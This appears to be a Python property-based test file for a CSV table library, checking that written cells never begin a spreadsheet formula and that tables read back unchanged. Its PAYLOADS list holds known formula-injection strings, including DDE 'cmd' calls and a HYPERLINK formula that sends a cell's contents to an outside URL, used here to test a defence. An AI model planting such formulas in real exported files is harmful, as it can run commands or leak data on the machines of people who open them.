"""What is written as a table is read back as it was, and no spreadsheet computes it."""

import csv
import io
import string
from contextlib import suppress

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from carina.errors import InputError
from carina.files.csv_text import cells_of, decoded_csv, separator_of
from carina.files.formulas import as_it_was, defused
from carina.files.names import printable
from carina.files.tables import read_cells, read_table, table_text, write_table

# What formulas are made of, more often than a text of all signs would have them.
SIGNS = "=+-@\t\r\n'\",;|! a1.|\uff1d\uff0b"
texts = st.text(st.sampled_from(SIGNS), max_size=12) | st.text(max_size=8)
BEGINS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def is_number(text):
    try:
        float(text)
    except ValueError:
        return False
    return True


@given(text=texts)
def test_a_defused_text_is_read_as_it_was(text):
    assert as_it_was(defused(text)) == text


@given(text=texts)
def test_no_cell_of_any_program_begins_a_formula(text):
    written = defused(text)
    for separators in (",", ";", "\t", '";,\t\r\n'):
        pieces = [written]
        for separator in separators:
            pieces = [part for piece in pieces for part in piece.split(separator)]
        for piece in pieces:
            # What stands between two separators is a cell; one sign alone computes nothing.
            if len(piece) > 1 and piece.startswith(BEGINS):
                assert is_number(text)


@given(number=st.floats(allow_nan=True) | st.integers())
def test_numbers_stay_numbers(number):
    assert defused(repr(number)) == repr(number)
    assert table_text(["n"], [{"n": number}]) == f"n\n{number!r}\n"


PAYLOADS = [
    "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|''!A0",
    '=HYPERLINK("http://example.org?x="&A1,"click")', "\t=1+1", "\r=1+1", 'a";=1+1', "a,=1+1",
    "=IMPORTXML(CONCAT(A1),B1)", "\uff1d1+1", "-1e5x", "+49 30 1234",
]  # fmt: skip


@pytest.mark.parametrize("payload", PAYLOADS)
def test_known_attacks_are_text_and_come_back(tmp_path, payload):
    write_table(tmp_path / "t.csv", ["path", payload], [{"path": payload, payload: "x"}])
    written = (tmp_path / "t.csv").read_text(encoding="utf-8")
    for cell in (cell for row in csv.reader(io.StringIO(written, newline="")) for cell in row):
        assert not cell.startswith(BEGINS)
    assert read_table(tmp_path / "t.csv", error=InputError) == [{"path": payload, payload: "x"}]


cells = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), max_size=9)


@settings(max_examples=40)
@given(rows=st.lists(st.tuples(texts, cells), min_size=1, max_size=5))
def test_a_table_is_read_back_as_it_was_written(tmp_path_factory, rows):
    rows = [
        (a.replace("\0", ""), b) for a, b in rows if (a + b).strip() and printable(a + b) == a + b
    ]
    file = tmp_path_factory.mktemp("table") / "t.csv"
    write_table(file, ["a", "b"], [{"a": a, "b": b} for a, b in rows])
    assert [(row["a"], row["b"]) for row in read_table(file, error=InputError)] == rows


@settings(max_examples=40)
@given(
    rows=st.lists(
        st.lists(st.text(string.ascii_letters + ' ",;\t|\n', max_size=6), min_size=2, max_size=2),
        min_size=2,
        max_size=6,
    ),
    separator=st.sampled_from(",;\t"),
    end=st.sampled_from(["\n", "\r\n", "\r"]),
    encoding=st.sampled_from(["utf-8", "utf-8-sig", "utf-16"]),
)
def test_any_program_s_table_is_read(rows, separator, end, encoding):
    named = [["path", "label"], *(["x" + a, "y" + b] for a, b in rows)]
    text = io.StringIO(newline="")
    csv.writer(text, delimiter=separator, lineterminator=end, quoting=csv.QUOTE_ALL).writerows(
        named
    )
    read = decoded_csv(text.getvalue().encode(encoding)).text
    assert separator_of(read) == separator
    assert [row.cells for row in cells_of(read, separator)] == named


def read_anything(file, data):
    """Read bytes as a table: it is read, or refused with a sentence."""
    file.write_bytes(data)
    with suppress(InputError):
        read_cells(file, error=InputError)


@settings(max_examples=60)
@given(data=st.binary(max_size=60) | texts.map(lambda text: text.encode(errors="replace")))
def test_any_bytes_are_a_table_or_refused(tmp_path_factory, data):
    read_anything(tmp_path_factory.mktemp("t") / "t.csv", data)


@pytest.mark.slow
@settings(max_examples=3000, deadline=None)
@given(data=st.binary(max_size=300) | st.text(SIGNS + "\0\ufeff", max_size=300).map(str.encode))
def test_many_bytes_are_a_table_or_refused(tmp_path_factory, data):
    read_anything(tmp_path_factory.getbasetemp() / "t.csv", data)
